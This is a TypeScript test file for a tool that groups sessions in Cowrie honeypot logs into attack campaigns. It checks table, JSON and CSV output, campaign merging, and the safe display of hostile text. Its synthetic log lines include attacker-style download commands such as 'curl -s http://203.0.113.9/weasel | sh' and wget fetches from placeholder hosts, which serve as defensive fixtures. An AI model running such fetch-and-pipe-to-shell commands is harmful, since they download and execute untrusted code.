/** campaigns as a user runs it. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { dayStrip } from "../../lib/campaigns/campaign-text.ts";
import { HOSTILE_TEXTS } from "../hostile/texts.ts";
import { copyFleet } from "../support/copy-fleet.ts";
import { toLine } from "../support/event-logs.ts";
import { makeTempDir, runScript } from "../support/run.ts";

let dir: Awaited<ReturnType<typeof makeTempDir>>;
const run = (args: readonly string[]) => runScript("campaigns", args, { cwd: dir.path });

beforeAll(async () => {
  dir = await makeTempDir();
  await copyFleet(join(dir.path, "fleet"));
});
afterAll(() => dir[Symbol.asyncDispose]());

interface Json {
  campaigns: { id: string; name: string; sessions: number; days: { sessions: number }[]; newest: { session: string }[] }[];
  merged?: { id: string; into: string }[];
}

describe("campaigns", () => {
  test("the two planted in the example logs are found whole; table, JSON and CSV agree", async () => {
    const text = await run(["fleet", "-n", "2"]);
    expect(text.stdout).toMatch(/^id +name +state +first +last +days +sessions/);
    expect(text.stdout).toContain("2cf0a061  heron       quiet   2026-07-06  2026-08-02  ");
    expect(text.stderr).toMatch(/campaigns: 2 of \d+ campaigns; [\d,]+ of 2,148 sessions left something/);
    const json = await run(["fleet", "--json", "-q"]);
    const { campaigns } = JSON.parse(json.stdout) as Json;
    expect(campaigns.slice(0, 2).map(({ id, name, sessions }) => [id, name, sessions])).toEqual([
      ["2cf0a061", "heron", 331],
      ["c8a778bb", "kestrel.sh", 287],
    ]);
    for (const { sessions, days } of campaigns) expect(days.reduce((sum, day) => sum + day.sessions, 0)).toBe(sessions);
    const csv = await run(["fleet", "--csv", "-q"]);
    expect(csv.stdout.trim().split("\n")).toHaveLength(campaigns.length + 1);
    expect([json.exitCode, csv.exitCode, text.exitCode]).toEqual([0, 0, 0]);
  });

  test("one of them whole, by the beginning of its id, and why two of its sessions are together", async () => {
    const sheet = await run(["fleet", "--campaign", "2cf0", "-q"]);
    for (const words of ["Campaign 2cf0a061: heron", "331 × support : heron!4711", "and 30 more", "curl -s -o heron http://<host>/heron"]) {
      expect(sheet.stdout).toContain(words);
    }
    const [, a, b] = /Newest +([0-9a-f]{12}).*\n +([0-9a-f]{12})/.exec(sheet.stdout)!;
    const why = await run(["fleet", "--why", `${a},${b}`, "-q"]);
    expect(why.stdout).toContain(`${a} and ${b}: together`);
    expect(why.stdout.split("\n").slice(1, 4).map(line => line.trim().split(" ")[0])).toEqual([a, b, "Both"]);
    expect(why.stdout).toMatch(/0\.9  file "?8bf140db/);
    expect(await run(["fleet", "--why", `${a},feedfeedfeed`, "-q"])).toMatchObject({ exitCode: 1, stdout: "" });
    expect(await run(["fleet", "--campaign", "ffffffff", "-q"])).toMatchObject({ exitCode: 1, stdout: "" });
  });

  test("--before tells merges and what is new since; a file that is something else is refused in one line", async () => {
    const at = (name: string) => join(dir.path, name);
    const line = (session: string, at: number, input: string) => toLine({ eventid: "command.input", at, session, input });
    const first = [line("a1", 0, "wget http://198.51.100.7/otter"), line("a2", 1, "wget http://198.51.100.7/otter"), line("b1", 2, "curl -s http://203.0.113.9/weasel | sh"), line("b2", 3, "curl -s http://203.0.113.9/weasel | sh")];
    const later = [line("j1", 90_000, "cd /srv; fetch http://198.51.100.7/q; fetch http://203.0.113.9/q"), ...["n1", "n2"].map((id, i) => line(id, 90_010 + i, "lspci | grep VGA"))];
    await Bun.write(at("growing/cowrie.json.2024-03-01"), `${first.join("\n")}\n`);
    const before = await run(["growing", "--json", "-q"]);
    expect((JSON.parse(before.stdout) as Json).campaigns.map(({ name }) => name).sort()).toEqual(["otter", "weasel"]);
    writeFileSync(at("before.json"), before.stdout);
    await Bun.write(at("growing/cowrie.json.2024-03-02"), `${later.join("\n")}\n`);
    const after = await run(["growing", "--before", "before.json", "--json"]);
    const { merged, campaigns } = JSON.parse(after.stdout) as Json;
    expect(campaigns.map(({ name, sessions }) => [name, sessions])).toEqual([["otter", 5], ["lspci | grep VGA", 2]]);
    expect(merged).toMatchObject([{ name: "weasel", into: campaigns[0]!.id }]);
    expect(after.stderr).toContain(`campaigns: ${merged![0]!.id} ("weasel") is now part of ${campaigns[0]!.id} ("otter")\n`);
    expect(after.stderr).toContain("campaigns: 1 campaign new since, 1 merged, 0 not in these logs\n");
    // The id of before still finds it.
    const found = await run(["growing", "--campaign", merged![0]!.id]);
    expect(found.stderr).toContain(`${merged![0]!.id} is now part of ${campaigns[0]!.id}`);
    expect(found.exitCode).toBe(0);
    for (const text of ["{}", "no json", '{"format":"cowrie-campaigns-1","campaigns":[{}]}']) {
      writeFileSync(at("bad.json"), text);
      const bad = await run(["growing", "--before", "bad.json"]);
      expect({ exitCode: bad.exitCode, lines: bad.stderr.trim().split("\n").length }).toEqual({ exitCode: 1, lines: 1 });
    }
  });

  test("whatever attackers wrote is shown, not sent", async () => {
    const lines = HOSTILE_TEXTS.flatMap((text, i) =>
      [0, 1].map(half => toLine({ eventid: "command.input", at: i, session: `h${i}${half}`, input: `wget http://bad.test/${i}/weasel ${text}`, src_ip: text, sensor: text })),
    );
    await Bun.write(join(dir.path, "hostile/cowrie.json"), `${lines.join("\n")}\n`);
    for (const args of [["hostile"], ["hostile", "--csv"], ["hostile", "--json"]]) {
      const { stdout, exitCode } = await run(args);
      expect(exitCode).toBe(0);
      expect(stdout).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    }
    const { campaigns } = JSON.parse((await run(["hostile", "--json", "-q"])).stdout) as Json;
    const sheet = await run(["hostile", "--campaign", campaigns[0]!.id, "-q"]);
    expect(sheet.stdout).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  });
});

test("a strip of days: empty days are dots, bars rise with the logarithm", () => {
  expect(dayStrip([{ day: 10, sessions: 1 }, { day: 12, sessions: 100 }], 10, 13)).toBe("▂·█·");
  expect(dayStrip([{ day: 0, sessions: 1 }], 0, 99, 10)).toBe("█·········");
});
